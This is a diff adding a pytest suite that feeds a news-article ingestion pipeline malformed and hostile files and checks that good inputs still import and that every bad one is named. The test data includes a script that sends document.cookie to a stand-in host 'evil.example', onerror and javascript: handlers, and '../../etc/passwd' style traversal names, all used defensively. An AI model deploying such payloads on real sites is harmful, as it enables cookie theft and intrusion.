@@ -1,0 +1,515 @@
+"""Hostile input: the batch goes on, good inputs are imported, the bad one is named.
+
+Every case writes its hostile file(s) into a fresh folder next to two good
+articles, ingests the folder and checks three things:
+
+1. the two good articles are imported with their text intact;
+2. every file in the folder has a report row (nothing goes unaccounted for);
+3. each hostile input has the status the case expects, and a reason that
+   names the problem (for an imported file, the reason names what was
+   repaired or ignored).
+
+All inputs are generated here from a seeded ``random.Random``; nothing large
+is committed. :data:`CASES` holds the one-file cases; the tests after it cover
+what needs more than one file or more than one run.
+"""
+
+from __future__ import annotations
+
+import codecs
+import gzip
+import io
+import json
+import os
+import random
+import sqlite3
+import zipfile
+from dataclasses import dataclass
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from analysis import formats
+from analysis.ingest import Upload, ingest
+
+RANDOM = random.Random(20220329)
+GOOD_TXT = (
+    "Talks on security guarantees resume in Istanbul\n\n"
+    "ISTANBUL (Reuters) - Negotiators met for three hours on Tuesday and agreed to meet again "
+    "next week, officials said.\n\n"
+    "\"We are ready to discuss a neutral status,\" the foreign minister told reporters."
+)
+GOOD_RECORD = {
+    "id": "good-record", "outlet": "Kyiv Post", "title": "Grain corridor reopens",
+    "date": "2022-07-22",
+    "text": "Ships left Odesa on Friday under the grain deal, the port authority said. "
+            "Insurers had asked for guarantees before the first convoy sailed.",
+}
+ARTICLE = (
+    "Ministers met in Brussels on Wednesday to agree a package of sanctions. "
+    "The measures, officials said, would take effect next month.\n\n"
+    "Critics called the package too weak; supporters said it was a start."
+)
+UNICODE_ARTICLE = "Café naïve — “quoted” façade; the minister’s €5 million plan. " * 8 + "Fin."
+ONE_LINE = "Ministers agreed a sanctions package in Brussels on Wednesday."
+
+
+def good_inputs() -> dict[str, bytes]:
+    return {
+        "good-article.txt": GOOD_TXT.encode("utf-8"),
+        "good-records.jsonl": (json.dumps(GOOD_RECORD) + "\n").encode("utf-8"),
+    }
+
+
+@dataclass(frozen=True)
+class Expect:
+    """What the report says about one hostile input (its label ends with ``label_end``)."""
+
+    label_end: str
+    status: str
+    reason: str | None = None  # a case-insensitive part of the reason
+    text: str | None = None  # the article's raw text, when imported
+
+
+@dataclass(frozen=True)
+class Case:
+    files: dict  # file name (str, or bytes for a non-UTF-8 name) -> content bytes
+    expect: tuple[Expect, ...]
+
+
+def one(name: str, data: bytes, status: str, reason: str | None = None, text: str | None = None) -> Case:
+    """A one-file case; ``name`` may end in ``:2``, the row of a one-record CSV that is meant."""
+    file_name = name.removesuffix(":2")
+    return Case({file_name: data}, (Expect(name, status, reason, text),))
+
+
+def random_bytes(size: int) -> bytes:
+    return bytes(RANDOM.getrandbits(8) for _ in range(size))
+
+
+def png_bytes() -> bytes:
+    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00" + random_bytes(3000)
+
+
+def zip_bytes() -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("article.txt", ARTICLE * 20)
+        archive.writestr("photo.jpg", random_bytes(2000))
+    return buffer.getvalue()
+
+
+def sqlite_bytes(tmp: Path) -> bytes:
+    path = tmp / "scratch.sqlite"
+    connection = sqlite3.connect(path)
+    connection.execute("CREATE TABLE t(x BLOB)")
+    connection.execute("INSERT INTO t VALUES (?)", (random_bytes(4000),))
+    connection.commit()
+    connection.close()
+    data = path.read_bytes()
+    path.unlink()
+    return data
+
+
+def html_page(body: str, head: str = "") -> bytes:
+    return f"<!DOCTYPE html><html><head>{head}</head><body>{body}</body></html>".encode("utf-8")
+
+
+def record_line(**fields) -> str:
+    return json.dumps({"text": ARTICLE, **fields})
+
+
+SCRIPT = "<script>document.title = 'owned'; fetch('https://evil.example/?c=' + document.cookie);</script>"
+
+CASES = {
+    # -- binary files ---------------------------------------------------------
+    "png-named-txt": one("photo.txt", png_bytes(), "rejected", "binary"),
+    "random-bytes": one("noise.txt", random_bytes(4096), "rejected", "binary"),
+    "gzip-named-txt": one("archive.txt", gzip.compress(ARTICLE.encode() * 50), "rejected", "binary"),
+    "elf-named-html": one("program.html", b"\x7fELF\x02\x01\x01" + bytes(9) + random_bytes(3000),
+                          "rejected", "binary"),
+    "pdf-named-json": one("scan.json", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + random_bytes(3000),
+                          "rejected", "binary"),
+    "zip-named-csv": one("export.csv", zip_bytes(), "rejected", "binary"),
+    "nul-only": one("zeros.txt", bytes(4096), "rejected", "binary"),
+    # -- encodings ------------------------------------------------------------
+    "truncated-utf8": one("cut.txt", UNICODE_ARTICLE[:-4].encode("utf-8") + "é".encode()[:1],
+                          "imported", "ends inside a UTF-8 character", UNICODE_ARTICLE[:-4]),
+    "broken-utf8-sequence": one(
+        "broken.txt", b"Ministers met. \xe2\x80" + UNICODE_ARTICLE.encode("utf-8"),
+        "imported", "invalid UTF-8", "Ministers met. \ufffd" + UNICODE_ARTICLE),
+    "utf16-le-without-bom": one("le.txt", UNICODE_ARTICLE.encode("utf-16-le"), "imported", "utf_16",
+                                UNICODE_ARTICLE),
+    "utf16-be-without-bom": one("be.txt", UNICODE_ARTICLE.encode("utf-16-be"), "imported", "utf_16",
+                                UNICODE_ARTICLE),
+    "utf16-without-bom-csv": one("wide.csv:2", f"id,text\nw1,{ONE_LINE} Ça coûte.\n".encode("utf-16-le"),
+                                 "imported", "utf_16", f"{ONE_LINE} Ça coûte."),
+    "utf16-with-bom": one("bom16.txt", codecs.BOM_UTF16_LE + UNICODE_ARTICLE.encode("utf-16-le"),
+                          "imported", None, UNICODE_ARTICLE),
+    "utf32-with-bom": one("bom32.txt", UNICODE_ARTICLE.encode("utf-32"), "imported", None, UNICODE_ARTICLE),
+    "cp1252-english": one(
+        "windows.txt",
+        ("The minister’s “security guarantees” cost €5 million — officials said. " * 4).encode("cp1252"),
+        "imported", "cp1252",
+        "The minister’s “security guarantees” cost €5 million — officials said. " * 4),
+    "cp1252-french": one("francais.txt", ("Café naïve, façade, élève. " * 10).encode("cp1252"),
+                         "imported", "cp1252", "Café naïve, façade, élève. " * 10),
+    "cp1252-json": one("legacy.json", json.dumps({"id": "legacy", "text": "Grüße aus Köln, sagte der "
+                       "Bürgermeister am Dienstag."}, ensure_ascii=False).encode("cp1252"),
+                       "imported", "cp1252", "Grüße aus Köln, sagte der Bürgermeister am Dienstag."),
+    "utf8-bom-txt": one("bom8.txt", codecs.BOM_UTF8 + ARTICLE.encode(), "imported", None, ARTICLE),
+    "crlf-and-cr": one("dos.txt", ARTICLE.replace("\n", "\r\n").encode(), "imported", None, ARTICLE),
+    # -- NUL bytes ------------------------------------------------------------
+    "stray-nul-bytes": one("nul.txt", ARTICLE[:50].encode() + b"\x00" + ARTICLE[50:].encode() + b"\x00",
+                           "imported", "NUL", ARTICLE),
+    "nul-in-jsonl-line": Case(
+        {"nul.jsonl": (record_line(id="ok") + "\n" + '{"id": "raw-nul", "text": "a\x00b"}\n').encode()},
+        (Expect("nul.jsonl:1", "imported", None, ARTICLE),
+         Expect("nul.jsonl:2", "rejected", "invalid JSON"))),
+    # -- empty and whitespace-only --------------------------------------------
+    "empty-txt": one("empty.txt", b"", "rejected", "empty"),
+    "whitespace-txt": one("blank.txt", b" \t\n\r\n   \n", "rejected", "empty"),
+    "unicode-whitespace-txt": one("nbsp.txt", "\u00a0\u2003\u3000\n\u2028".encode(), "rejected", "whitespace"),
+    "bom-only": one("bom.txt", codecs.BOM_UTF8, "rejected", "whitespace"),
+    "empty-json": one("empty.json", b"", "rejected", "empty"),
+    "empty-json-list": one("list.json", b"[]", "rejected", "empty"),
+    "empty-articles-key": one("wrapped.json", b'{"articles": []}', "rejected", "empty"),
+    "empty-jsonl": one("empty.jsonl", b"\n\n  \n", "rejected", "empty"),
+    "empty-csv": one("empty.csv", b"", "rejected", "empty"),
+    "header-only-csv": one("header.csv", b"id,title,text\n", "rejected", "no rows"),
+    "empty-html": one("empty.html", b"   ", "rejected", "empty"),
+    # -- JSON -----------------------------------------------------------------
+    "deeply-nested-json": one("deep.json", b"[" * 100_000 + b"]" * 100_000, "rejected", "nested"),
+    "deeply-nested-field": one(
+        "deepfield.json", json.dumps({"text": ARTICLE, "meta": json.loads("[" * 80 + "]" * 80)}).encode(),
+        "rejected", "nested deeper"),
+    "json-scalar": one("number.json", b"42", "rejected", "article object"),
+    "json-trailing-garbage": one("garbage.json", (json.dumps({"text": ARTICLE}) + " }}").encode(),
+                                 "rejected", "invalid JSON"),
+    "json-huge-integer": one("bigint.json", ('{"id": "big", "text": "%s", "views": %s}'
+                                              % (ARTICLE.replace("\n", "\\n"), "9" * 5000)).encode(),
+                             "imported", None, ARTICLE),
+    "json-lone-surrogate": one("surrogate.json", ('{"id": "emoji", "text": "Broken emoji \\ud83d here. %s"}'
+                                                   % ARTICLE.replace("\n", "\\n")).encode(),
+                               "imported", "surrogate", "Broken emoji \ufffd here. " + ARTICLE),
+    "json-list-bad-elements": Case(
+        {"mixed.json": json.dumps([{"id": "m1", "text": ARTICLE}, "just a string",
+                                   {"id": {"nested": 1}, "text": "x"}, {"id": "m4", "text": 7}]).encode()},
+        (Expect("mixed.json[0]", "imported", None, ARTICLE),
+         Expect("mixed.json[1]", "rejected", "expected an object"),
+         Expect("mixed.json[2]", "rejected", "id must be"),
+         Expect("mixed.json[3]", "rejected", "no text"))),
+    # -- JSONL with bad lines among good ---------------------------------------
+    "jsonl-bad-lines-among-good": Case(
+        {"feed.jsonl": "\n".join([
+            record_line(id="f1"),
+            '{"id": "f2", "text": "truncated',
+            "[1, 2, 3]",
+            '"a string"',
+            "",
+            json.dumps({"id": "f6", "title": "no text"}),
+            json.dumps({"id": ["a", "list"], "text": "x"}),
+            json.dumps({"id": "f8", "text": "Another good line about the grain corridor and Odesa port."}),
+            "not json at all",
+        ]).encode()},
+        (Expect("feed.jsonl:1", "imported", None, ARTICLE),
+         Expect("feed.jsonl:2", "rejected", "invalid JSON"),
+         Expect("feed.jsonl:3", "rejected", "expected an object"),
+         Expect("feed.jsonl:4", "rejected", "expected an object"),
+         Expect("feed.jsonl:6", "rejected", "no text"),
+         Expect("feed.jsonl:7", "rejected", "id must be"),
+         Expect("feed.jsonl:8", "imported"),
+         Expect("feed.jsonl:9", "rejected", "invalid JSON"))),
+    "jsonl-latin1-line": Case(
+        {"mixed-encoding.jsonl": (record_line(id="u1") + "\n").encode()
+         + '{"id": "l2", "text": "Ça a coûté cher."}\n'.encode("latin-1")},
+        (Expect("mixed-encoding.jsonl:1", "imported", None, ARTICLE),
+         Expect("mixed-encoding.jsonl:2", "rejected", "not UTF-8"))),
+    # -- CSV ------------------------------------------------------------------
+    "csv-wrong-columns": Case(
+        {"columns.csv": ("id,outlet,text\n"
+                         "c1,Planet,First good row about the sanctions package.\n"
+                         "c2,Planet,too,many,fields\n"
+                         "c3\n"
+                         "c4,Planet,Last good row about the sanctions package.\n").encode()},
+        (Expect("columns.csv:2", "imported"),
+         Expect("columns.csv:3", "rejected", "fields; the header has 3"),
+         Expect("columns.csv:4", "rejected", "no text"),
+         Expect("columns.csv:5", "imported"))),
+    "csv-embedded-newlines": one("multiline.csv:2",
+                                 ('id,text\nml,"%s"\n' % ARTICLE.replace('"', '""')).encode(),
+                                 "imported", None, ARTICLE),
+    "csv-with-bom": one("excel.csv:2", codecs.BOM_UTF8 + b"id,text\nbom1," + ONE_LINE.encode(),
+                        "imported", None, ONE_LINE),
+    "csv-semicolons": one("european.csv:2", "id;outlet;text\ns1;Le Soir;Les ministres se sont réunis.\n".encode(),
+                          "imported", None, "Les ministres se sont réunis."),
+    "csv-no-text-column": one("people.csv", b"name,age\nAda,36\n", "rejected", "no 'text' or 'body' column"),
+    "csv-unclosed-quote": Case(
+        {"quote.csv": b'id,text\nq1,First good row about talks.\nq2,"never closed\nq3,would be swallowed\n'},
+        (Expect("quote.csv:2", "imported", None, "First good row about talks."),
+         Expect("quote.csv:3", "rejected", "never closed"))),
+    "csv-stray-quote": Case(
+        {"stray.csv": b'id,text\nq1,"a"b stray quote\nq2,A good row after the bad one.\n'},
+        (Expect("stray.csv:2", "rejected", "malformed CSV row"),
+         Expect("stray.csv:3", "imported", None, "A good row after the bad one."))),
+    "csv-huge-field": one("wide-field.csv:2", b"id,text\nwide," + b"word " * 300_000 + b"\n",
+                          "imported", None, "word " * 300_000),
+    # -- HTML -----------------------------------------------------------------
+    "broken-html": one("broken.html", b"<html><body><div><p>" + ARTICLE.encode()
+                       + b"<p><b>unclosed <i>tags</div></span></table>", "imported"),
+    "script-only-html": one("script.html", html_page(SCRIPT * 5), "rejected", "no readable text"),
+    "style-and-comments-html": one("styled.html",
+                                   html_page("<style>body{color:red}</style><!-- " + ARTICLE + " -->"),
+                                   "rejected", "no readable text"),
+    "deeply-nested-html": one("nested.html", b"<div>" * 30_000 + ARTICLE.encode() + b"</div>" * 30_000,
+                              "imported"),
+    "html-with-script-and-handlers": one(
+        "handlers.html",
+        html_page(f"<article><h1>Sanctions</h1><p>{ARTICLE}</p>{SCRIPT}"
+                  "<img src=x onerror=\"alert(1)\"><a href=\"javascript:alert(2)\">more</a></article>"),
+        "imported"),
+    # -- file names -----------------------------------------------------------
+    "unicode-file-name": one("café — naïve 記事 🗞️.txt", ARTICLE.encode(), "imported", None, ARTICLE),
+    "nfd-file-name": one("cafe\u0301.txt", ARTICLE.encode(), "imported", None, ARTICLE),
+    "rtl-override-file-name": one("\u202etxt.exe\u200b.txt", ARTICLE.encode(), "imported", None, ARTICLE),
+    "newline-in-file-name": one("two\nlines.txt", ARTICLE.encode(), "imported", None, ARTICLE),
+    "non-utf8-file-name": Case({b"caf\xe9-latin1.txt": ARTICLE.encode()},
+                               (Expect("caf\ufffd-latin1.txt", "imported", "not valid UTF-8", ARTICLE),)),
+    "dots-in-file-name": one("report..final...txt", ARTICLE.encode(), "imported", None, ARTICLE),
+    "dotdot-leading-file-name": one("..evil.txt", ARTICLE.encode(), "skipped", "hidden"),
+    "unsupported-extension": one("scan.pdf", b"%PDF-1.4 whatever", "rejected", "unsupported file type"),
+    # -- dates ----------------------------------------------------------------
+    "dates-that-do-not-exist": Case(
+        {"dates.jsonl": "\n".join([
+            record_line(id="d0", date="0000-00-00"),
+            json.dumps({"id": "d1", "date": "2099-13-45", "text": "Second article about talks in Geneva."}),
+            json.dumps({"id": "d2", "date": "2022-02-30", "text": "Third article about talks in Vienna."}),
+            json.dumps({"id": "d3", "date": ["2022", 3], "text": "Fourth article about talks in Oslo."}),
+            json.dumps({"id": "d4", "date": "9" * 10_000, "text": "Fifth article about talks in Rome."}),
+            json.dumps({"id": "d5", "date": "2099-01-01", "text": "Sixth article about talks in Bern."}),
+        ]).encode()},
+        tuple(Expect(f"dates.jsonl:{line}", "imported", "not a real, past calendar date") for line in range(1, 7))),
+    "html-meta-date-invalid": one(
+        "dated.html", html_page(f"<article><p>{ARTICLE}</p></article>",
+                                '<meta property="article:published_time" content="2099-13-45">'),
+        "imported"),
+}
+
+
+def write_inputs(folder: Path, files: dict) -> list[Path]:
+    paths = []
+    for name, data in files.items():
+        path = Path(os.fsdecode(os.fsencode(folder) + b"/" + name)) if isinstance(name, bytes) else folder / name
+        path.write_bytes(data)
+        paths.append(path)
+    return paths
+
+
+def rows_ending(report: pd.DataFrame, label_end: str) -> pd.DataFrame:
+    """Rows whose input is the file ``label_end`` (with ``:line`` or ``[index]`` if given)."""
+    return report[report["input"].str.endswith("/" + label_end)]
+
+
+def assert_batch_went_on(store, report: pd.DataFrame, written: list[Path]) -> None:
+    """The good inputs are in, and every written file has at least one report row."""
+    articles = store.articles(with_raw=True).set_index("id")
+    assert articles.at["good-article", "raw_text"] == GOOD_TXT
+    assert articles.at["good-record", "raw_text"] == GOOD_RECORD["text"]
+    for path in written:
+        label = formats.input_label(path)
+        assert report["input"].str.startswith(label).any(), f"{label!r} has no report row"
+    unexplained = report[report["status"].isin(["rejected", "skipped"]) & report["reason"].isna()]
+    assert unexplained.empty, unexplained
+
+
+def assert_expected(store, report: pd.DataFrame, expect: Expect) -> None:
+    rows = rows_ending(report, expect.label_end)
+    assert len(rows) == 1, f"{expect.label_end!r}: {report.to_dict('records')}"
+    row = rows.iloc[0]
+    assert row["status"] == expect.status, row.to_dict()
+    if expect.reason is not None:
+        assert expect.reason.lower() in str(row["reason"]).lower(), row.to_dict()
+    if expect.status == "imported":
+        article = store.article(row["article_id"])
+        if expect.text is not None:
+            assert article["raw_text"] == expect.text
+        assert "<script" not in article["body"] and "onerror" not in article["body"]
+
+
+@pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
+def test_hostile_input_is_named_and_the_batch_goes_on(case, tmp_path, fresh_store):
+    written = write_inputs(tmp_path, {**good_inputs(), **case.files})
+    result = ingest(fresh_store, [tmp_path])
+    assert_batch_went_on(fresh_store, result.report, written)
+    for expect in case.expect:
+        assert_expected(fresh_store, result.report, expect)
+    integrity = fresh_store.connection.execute("PRAGMA integrity_check").fetchone()[0]
+    assert integrity == "ok"
+
+
+def test_binary_as_an_sqlite_file_named_jsonl(tmp_path, fresh_store):
+    written = write_inputs(tmp_path, {**good_inputs(), "corpus.jsonl": sqlite_bytes(tmp_path)})
+    result = ingest(fresh_store, [tmp_path])
+    assert_batch_went_on(fresh_store, result.report, written)
+    bad = result.report[result.report["input"].str.contains("/corpus.jsonl:")]
+    assert not bad.empty
+    assert (bad["status"] == "rejected").all() and bad["reason"].str.contains("UTF-8|JSON").all()
+
+
+def test_html_hostile_markup_never_reaches_the_text(tmp_path, fresh_store):
+    page = CASES["html-with-script-and-handlers"].files["handlers.html"]
+    (tmp_path / "page.html").write_bytes(page)
+    ingest(fresh_store, [tmp_path])
+    article = fresh_store.article("page")
+    for fragment in ("<script", "document.cookie", "onerror", "javascript:"):
+        assert fragment not in article["raw_text"] and fragment not in article["body"]
+    assert "sanctions" in article["body"]
+
+
+def test_a_50_mb_text_file_is_imported_whole(tmp_path, fresh_store):
+    words = "the minister said talks would continue next week in Istanbul officials told".split()
+    generator = random.Random(50)
+    paragraphs, size = [], 0
+    while size < 50 * 1024 * 1024:
+        paragraph = " ".join(generator.choice(words) for _ in range(60)).capitalize() + "."
+        paragraphs.append(paragraph)
+        size += len(paragraph) + 2
+    text = "\n\n".join(paragraphs)
+    del paragraphs
+    written = write_inputs(tmp_path, {**good_inputs(), "huge.txt": text.encode("utf-8")})
+    result = ingest(fresh_store, [tmp_path])
+    assert_batch_went_on(fresh_store, result.report, written)
+    assert rows_ending(result.report, "huge.txt")["status"].tolist() == ["imported"]
+    stored_length = fresh_store.connection.execute(
+        "SELECT length(raw_text) FROM articles WHERE id = 'huge'").fetchone()[0]
+    assert stored_length == len(text)
+
+
+@pytest.mark.parametrize("suffix", [".txt", ".jsonl"])
+def test_a_single_10_mb_line_is_imported(suffix, tmp_path, fresh_store):
+    generator = random.Random(10)
+    words = "sanctions package ministers Brussels agreed officials said measures".split()
+    line = " ".join(generator.choice(words) for _ in range(10 * 1024 * 1024 // 9))
+    data = (line if suffix == ".txt" else json.dumps({"id": "line", "text": line})).encode()
+    written = write_inputs(tmp_path, {**good_inputs(), f"line{suffix}": data})
+    result = ingest(fresh_store, [tmp_path])
+    assert_batch_went_on(fresh_store, result.report, written)
+    assert fresh_store.article("line")["raw_text"] == line
+
+
+def test_a_file_over_the_size_limit_is_named(tmp_path, fresh_store, monkeypatch):
+    monkeypatch.setattr(formats, "MAX_FILE_BYTES", 10_000)
+    written = write_inputs(tmp_path, {**good_inputs(), "long.txt": ARTICLE.encode() * 100})
+    result = ingest(fresh_store, [tmp_path])
+    assert_batch_went_on(fresh_store, result.report, written)
+    assert "the limit is 10,000" in rows_ending(result.report, "long.txt")["reason"].iloc[0]
+
+
+def test_thousands_of_tiny_files_are_all_imported(tmp_path, fresh_store):
+    generator = random.Random(3000)
+    words = "ceasefire talks port grain convoy minister officials Tuesday Geneva".split()
+    files = {}
+    for number in range(3000):
+        folder = tmp_path / f"batch-{number % 30:02d}"
+        folder.mkdir(exist_ok=True)
+        files[folder / f"brief-{number:04d}.txt"] = (
+            f"Brief {number}: " + " ".join(generator.choice(words) for _ in range(12)) + ".").encode()
+    for path, data in files.items():
+        path.write_bytes(data)
+    write_inputs(tmp_path, good_inputs())
+    result = ingest(fresh_store, [tmp_path])
+    assert result.counts == {"imported": 3002, "duplicate": 0, "rejected": 0, "skipped": 0}
+    assert fresh_store.count_articles() == 3002
+
+
+def test_same_id_with_different_text_is_a_conflict_never_an_overwrite(tmp_path, fresh_store):
+    first = tmp_path / "run1"
+    second = tmp_path / "run2"
+    first.mkdir()
+    second.mkdir()
+    (first / "a.txt").write_text(ARTICLE, encoding="utf-8")
+    (second / "a.txt").write_text(ARTICLE + "\n\nA correction was appended later.", encoding="utf-8")
+    (second / "feed.jsonl").write_text("\n".join([
+        json.dumps({"id": "b", "text": "The first text of b, about the grain corridor."}),
+        json.dumps({"id": "b", "text": "A different text that claims the id b."}),
+        json.dumps({"id": "c", "text": ARTICLE}),
+    ]), encoding="utf-8")
+    ingest(fresh_store, [first])
+    result = ingest(fresh_store, [second])
+    reasons = dict(zip(result.report["input"], result.report["reason"]))
+    statuses = dict(zip(result.report["input"], result.report["status"]))
+    assert statuses[str(second / "a.txt")] == "rejected"
+    assert "id conflict: 'a'" in reasons[str(second / "a.txt")]
+    assert statuses[f"{second / 'feed.jsonl'}:2"] == "rejected"
+    assert "id conflict: 'b'" in reasons[f"{second / 'feed.jsonl'}:2"]
+    assert statuses[f"{second / 'feed.jsonl'}:3"] == "duplicate"  # same text as a, another id
+    assert fresh_store.article("a")["raw_text"] == ARTICLE
+    assert fresh_store.article("b")["raw_text"] == "The first text of b, about the grain corridor."
+    assert result.exit_code == 1
+
+
+def test_same_id_same_text_with_other_whitespace_is_a_duplicate(tmp_path, fresh_store):
+    (tmp_path / "a.txt").write_text(ARTICLE, encoding="utf-8")
+    ingest(fresh_store, [tmp_path])
+    (tmp_path / "a.txt").write_text(ARTICLE.replace("\n\n", "\r\n\r\n  "), encoding="utf-8")
+    result = ingest(fresh_store, [tmp_path])
+    assert result.report["status"].tolist() == ["duplicate"]
+
+
+@pytest.mark.parametrize("name, expected_id", [
+    ("../../etc/passwd.txt", "passwd"),
+    ("..\\..\\windows\\system.txt", "system"),
+    ("/etc/hosts.txt", "hosts"),
+    ("C:\\Users\\me\\Desktop\\story.txt", "story"),
+])
+def test_upload_names_with_paths_keep_only_the_file_name(name, expected_id, tmp_path, fresh_store):
+    before = sorted(os.listdir(tmp_path.parent))
+    result = ingest(fresh_store, uploads=[Upload(name, ARTICLE.encode())])
+    row = result.report.iloc[0]
+    assert (row["status"], row["article_id"]) == ("imported", expected_id)
+    assert ".." not in row["input"] and "/" not in row["input"] and "\\" not in row["input"]
+    assert sorted(os.listdir(tmp_path.parent)) == before  # an upload is never written to disk
+
+
+def test_upload_with_no_name_is_named(fresh_store):
+    result = ingest(fresh_store, uploads=[Upload("", ARTICLE.encode()), Upload("ok.txt", GOOD_TXT.encode())])
+    assert result.report["status"].tolist() == ["rejected", "imported"]
+    assert "unsupported file type" in result.report["reason"].iloc[0]
+
+
+def test_broken_links_pipes_and_link_loops_are_named_not_hung(tmp_path, fresh_store):
+    written = write_inputs(tmp_path, good_inputs())
+    (tmp_path / "dangling.txt").symlink_to(tmp_path / "gone.txt")
+    os.mkfifo(tmp_path / "pipe.txt")
+    (tmp_path / "loop").mkdir()
+    (tmp_path / "loop" / "again").symlink_to(tmp_path / "loop")
+    result = ingest(fresh_store, [tmp_path])
+    assert_batch_went_on(fresh_store, result.report, written)
+    for name in ("dangling.txt", "pipe.txt"):
+        row = rows_ending(result.report, name).iloc[0]
+        assert row["status"] == "rejected" and "not a regular file" in row["reason"]
+
+
+def test_a_broken_folder_manifest_is_named_and_the_folder_still_imported(tmp_path, fresh_store):
+    written = write_inputs(tmp_path, {**good_inputs(), "manifest.csv": b"article;source\ngood-article;X\n"})
+    result = ingest(fresh_store, [tmp_path])
+    assert_batch_went_on(fresh_store, result.report, written)
+    row = rows_ending(result.report, "manifest.csv").iloc[0]
+    assert row["status"] == "rejected" and "lacks column" in row["reason"]
+    assert result.exit_code == 1
+
+
+def test_hidden_files_are_skipped_with_a_reason(tmp_path, fresh_store):
+    written = write_inputs(tmp_path, {**good_inputs(), ".DS_Store": random_bytes(100)})
+    (tmp_path / ".git").mkdir()
+    (tmp_path / ".git" / "HEAD").write_text("ref: refs/heads/main")
+    result = ingest(fresh_store, [tmp_path])
+    assert_batch_went_on(fresh_store, result.report, written)
+    assert rows_ending(result.report, ".DS_Store")["status"].tolist() == ["skipped"]
+    assert rows_ending(result.report, "HEAD")["status"].tolist() == ["skipped"]
+
+
+def test_the_battery_has_at_least_40_cases():
+    one_file = sum(len(case.expect) for case in CASES.values())
+    assert len(CASES) >= 40 and one_file >= 60
